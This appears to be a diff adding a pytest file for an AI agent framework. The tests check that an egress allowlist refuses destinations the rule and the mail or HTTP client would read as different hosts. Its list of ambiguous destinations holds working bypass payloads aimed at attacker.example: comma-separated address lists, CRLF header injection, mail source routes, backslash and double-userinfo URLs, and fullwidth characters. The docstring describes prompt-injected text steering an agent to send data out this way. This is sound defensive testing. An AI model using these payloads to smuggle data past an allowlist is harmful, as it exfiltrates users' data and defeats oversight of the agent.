@@ -1,0 +1,152 @@
+"""Round fifteen: attackers that read the egress rule (T8).
+
+The egress rule reads a host out of a destination argument and compares it with the allowlist;
+the tool's own client (an HTTP library, an SMTP library) decides where the data really goes.
+Where the two parsers disagree, injected text the model obeys can name a destination that the
+rule reads as an allowed host while the client reaches the attacker's: an address list
+(``mallory@attacker.example,ok@partner.example``), a backslash in the authority (``urllib3``
+reads ``https://attacker.example\\@partner.example/`` as host ``attacker.example``), a header
+injection, a percent source route. And a destination the rule's parser cannot read at all
+(``http://[::1``) must be a denial, not a crash of the run.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import Annotated
+
+import pytest
+from pydantic import Field
+
+from tether.core.stop import StopReason
+from tether.errors import PolicyError
+from tether.host import Host
+from tether.policy import Policy, TrustedContext, destination_of, propose
+from tether.runs._values import Agent
+from tether.testing import ScriptedModel, call, final
+from tether.tools import Effect, tool
+
+pytestmark = pytest.mark.anyio
+
+CTX = TrustedContext(tenant="org-alpha")
+SENT: list[str] = []
+
+
+@tool(effect=Effect.SEND, egress_argument="destination")
+def send_report(
+    destination: Annotated[str, Field(max_length=300, description="Webhook URL or e-mail address.")],
+    text: Annotated[str, Field(max_length=500, description="Report to send.")],
+) -> str:
+    """Send a report to a partner."""
+    SENT.append(destination)
+    return "sent"
+
+
+# The host trusts its allowlist: sending to a partner needs no person (the attacker's goal is a
+# send without approval, so a bypass of the egress rule is the whole attack).
+POLICY = Policy(
+    allow={"send_report"},
+    egress={"partner.example", "ops.example", "::1"},
+    automatic_effects={Effect.READ, Effect.SEND},
+)
+
+LEGITIMATE = [
+    "https://partner.example/hook",
+    "HTTPS://Partner.Example./x?week=12#top",
+    "https://bot:token@partner.example:8443/hook",
+    "reports@ops.example",
+    "first.last+weekly@partner.example",
+    "partner.example",
+    "http://[::1]:8080/hook",
+    "https://partner.example/caf\u00e9",
+]
+
+AMBIGUOUS = [
+    # An address list: SMTP clients send to every address, the old rule read the last domain.
+    "mallory@attacker.example,ok@partner.example",
+    "mallory@attacker.example; ok@partner.example",
+    "Mallory <mallory@attacker.example> ok@partner.example",
+    '"mallory@attacker.example"@partner.example',
+    # Header injection: a CRLF then another recipient.
+    "mallory@attacker.example\r\nTo: ok@partner.example",
+    # Source routes relayed by the allowed domain's mail server.
+    "mallory%attacker.example@partner.example",
+    "attacker.example!mallory@partner.example",
+    # A backslash: urllib3 and WHATWG parsers end the authority there (host attacker.example).
+    "https://attacker.example\\@partner.example/x",
+    "https://attacker.example\\.partner.example/x",
+    # Two userinfo separators, whitespace a client strips or splits on, a zone id.
+    "https://mallory@attacker.example@partner.example/",
+    "https://attacker.example\t@partner.example/",
+    "https://[::1%25eth0]/hook",
+    # Non-ASCII in the authority (NFKC turns U+FF03 into '#').
+    "https://attacker.example\uff03@partner.example/",
+    # Unparseable for urllib.parse (it raised ValueError out of the policy).
+    "http://[::1",
+    "https://partner.example:99999/",
+    "https://partner.example../x",
+]
+
+
+def raw(destination: str) -> str:
+    return json.dumps({"tool": "send_report", "arguments": {"destination": destination, "text": "weekly"}})
+
+
+@pytest.mark.spec("T8", "T3")
+@pytest.mark.parametrize("destination", AMBIGUOUS)
+def test_a_destination_clients_could_read_as_another_host_is_refused_at_intake(destination: str) -> None:
+    with pytest.raises(PolicyError) as info:
+        propose(CTX, raw(destination), tools=[send_report], policy=POLICY)
+    assert info.value.reason == "egress_ambiguous"
+    for ok in LEGITIMATE:
+        assert not propose(CTX, raw(ok), tools=[send_report], policy=POLICY).needs_approval
+
+
+@pytest.mark.spec("T8")
+def test_destination_of_reads_the_host_of_plain_destinations_and_raises_for_ambiguous_ones() -> None:
+    assert [destination_of(v) for v in LEGITIMATE] == [
+        "partner.example",
+        "partner.example",
+        "partner.example",
+        "ops.example",
+        "partner.example",
+        "partner.example",
+        "::1",
+        "partner.example",
+    ]
+    for bad in AMBIGUOUS:
+        with pytest.raises(ValueError):
+            destination_of(bad)
+    # A host off the list is still just that: not ambiguous, not allowed.
+    with pytest.raises(PolicyError) as info:
+        propose(CTX, raw("https://partner.example%2f@attacker.example/"), tools=[send_report], policy=POLICY)
+    assert info.value.reason == "egress_not_allowed"
+
+
+@pytest.mark.spec("T8")
+@pytest.mark.parametrize(
+    "destination",
+    [
+        "https://attacker.example\\@partner.example/x",
+        "mallory@attacker.example,ok@partner.example",
+        "http://[::1",
+    ],
+)
+async def test_in_the_loop_an_ambiguous_destination_is_denied_and_never_reaches_the_tool(
+    destination: str,
+) -> None:
+    SENT.clear()
+    host = Host(policy=POLICY)
+    host.add_tools(send_report)
+    obeying = ScriptedModel([call("send_report", destination=destination, text="all customer data")])
+    bad = await host.run(Agent(instructions="x", model=obeying), "Send the report.", context=CTX)
+    assert bad.stop_reason is StopReason.POLICY_DENIED and "egress_ambiguous" in bad.detail
+    assert SENT == []
+
+    good = ScriptedModel(
+        [call("send_report", destination="https://partner.example/h", text="weekly"), final("ok")]
+    )
+    done = await host.run(Agent(instructions="x", model=good), "Send the report.", context=CTX)
+    assert done.stop_reason is StopReason.ACCEPTED
+    assert SENT == ["https://partner.example/h"]
+    await host.aclose()
